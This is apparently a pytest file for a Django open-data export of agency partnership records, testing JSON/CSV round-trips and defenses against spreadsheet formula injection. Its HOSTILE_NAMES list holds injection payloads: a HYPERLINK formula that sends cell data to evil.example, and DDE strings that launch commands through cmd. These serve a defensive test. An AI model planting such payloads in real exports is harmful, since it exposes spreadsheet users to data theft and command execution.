"""Open data: the files parse back to the same pairs and agencies the database holds."""

import csv
import io
import json

import pytest

from partnerships import demo, opendata
from partnerships.models import Agency, HelpingPair

pytestmark = pytest.mark.django_db


@pytest.fixture
def meeting():
    return demo.load()


def read_csv(response):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff"), "a BOM, so Excel reads UTF-8"
    return list(csv.DictReader(io.StringIO(body[1:])))


def database_pairs():
    return [
        (
            pair.order,
            pair.helper.name,
            pair.helper_written_as,
            pair.helper.division.code,
            pair.helped.name,
            pair.helped_written_as,
            pair.helped.division.code,
        )
        for pair in HelpingPair.objects.with_agencies()
    ]


def test_pairs_json_round_trip(client, meeting):
    response = client.get("/data/pairs.json")
    assert response["Content-Type"] == "application/json"
    assert response["Access-Control-Allow-Origin"] == "*"
    records = json.loads(response.content)["pairs"]
    parsed = [
        (
            r["order"],
            r["helper"]["name"],
            r["helper"]["written_as"],
            r["helper"]["division_code"],
            r["helped"]["name"],
            r["helped"]["written_as"],
            r["helped"]["division_code"],
        )
        for r in records
    ]
    assert parsed == database_pairs()
    first = records[0]
    assert first["helped"]["province_name"] == "黑龙江省"
    assert first["helped"]["division_name"] == "富裕县"
    assert first["meeting"]["start_date"] == "2004-09-20"
    [agreement] = first["agreements"]
    assert agreement["title"] == "质量兴市合作交流协议"
    assert [c["order"] for c in agreement["clauses"]] == [1, 2, 3, 4]
    assert agreement["clauses"][3]["target_min"] == 1
    assert agreement["clauses"][3]["target_max"] == 2
    assert first["url"].endswith(HelpingPair.objects.get(order=1).get_absolute_url())


def test_pairs_csv_round_trip(client, meeting):
    response = client.get("/data/pairs.csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response)
    assert list(rows[0]) == opendata.PAIR_COLUMNS
    parsed = [
        (
            int(r["order"]),
            r["helper_name"],
            r["helper_written_as"],
            r["helper_division_code"],
            r["helped_name"],
            r["helped_written_as"],
            r["helped_division_code"],
        )
        for r in rows
    ]
    assert parsed == database_pairs()
    fengcheng = rows[7]
    assert fengcheng["helped_division_name"] == "凤城县"
    assert fengcheng["helped_division_current_name"] == "凤城市"
    assert fengcheng["helped_province_code"] == "210000"
    assert fengcheng["agreements"] == "质量兴市合作交流协议"


def test_agencies_json_and_csv_agree_with_the_database(client, meeting):
    records = json.loads(client.get("/data/agencies.json").content)["agencies"]
    rows = read_csv(client.get("/data/agencies.csv"))
    assert list(rows[0]) == opendata.AGENCY_COLUMNS
    expected = {a.pk: a for a in Agency.objects.select_related("division")}
    assert {r["id"] for r in records} == set(expected)
    assert {int(r["id"]) for r in rows} == set(expected)
    by_id = {int(r["id"]): r for r in rows}
    for record in records:
        agency = expected[record["id"]]
        row = by_id[record["id"]]
        assert record["name"] == row["name"] == agency.name
        assert record["written_as"] == row["written_as"] == agency.written_as
        assert record["aliases"] == agency.alias_list
        assert row["aliases"].split("；") == (agency.alias_list or [""])
        code = agency.division.code if agency.division else ""
        assert record["division_code"] == row["division_code"] == code
        assert row["northeast"] == ("1" if record["northeast"] else "0")
    changshu = next(r for r in records if r["name"] == "常熟市质量技术监督局")
    assert changshu["honours"] == ["全国质量兴市先进市县"]
    assert changshu["province_name"] == "江苏省"
    assert changshu["latitude"] == "31.65374"
    national = next(r for r in records if r["name"] == "国家质量监督检验检疫总局")
    assert national["division_code"] == "" and national["northeast"] is False


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点此查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("hostile", HOSTILE_NAMES)
def test_csv_cells_that_would_be_formulas_get_a_leading_quote(client, hostile):
    """A name or alias a spreadsheet would run as a formula is written with a leading ', and the
    JSON file carries it exactly as stored."""
    from tests.factories import AgencyFactory

    agency = AgencyFactory(name=hostile, short_name="测试局", aliases=hostile)

    [row] = [r for r in read_csv(client.get("/data/agencies.csv")) if r["id"] == str(agency.pk)]
    assert row["name"] == "'" + hostile
    # Aliases are one per line, trimmed: the tab or carriage return goes, the formula stays.
    assert row["aliases"] == "'" + hostile.strip()
    assert row["short_name"] == "测试局"
    [record] = [
        r
        for r in json.loads(client.get("/data/agencies.json").content)["agencies"]
        if r["id"] == agency.pk
    ]
    assert record["name"] == hostile


def test_spreadsheet_safe_quotes_formulas_only():
    """Formulas are quoted; a negative number stays a number; a name with - or = further in is
    untouched; non-text values pass through."""
    assert opendata.spreadsheet_safe("=1+1") == "'=1+1"
    assert opendata.spreadsheet_safe("-70.25") == "-70.25"
    assert opendata.spreadsheet_safe("-70.25+1") == "'-70.25+1"
    assert opendata.spreadsheet_safe("齐齐哈尔市=技监局-一") == "齐齐哈尔市=技监局-一"
    assert opendata.spreadsheet_safe(12) == 12
    text = opendata.to_csv(["a", "b"], [{"a": "@x", "b": "ok"}])
    assert list(csv.DictReader(io.StringIO(text[1:]))) == [{"a": "'@x", "b": "ok"}]
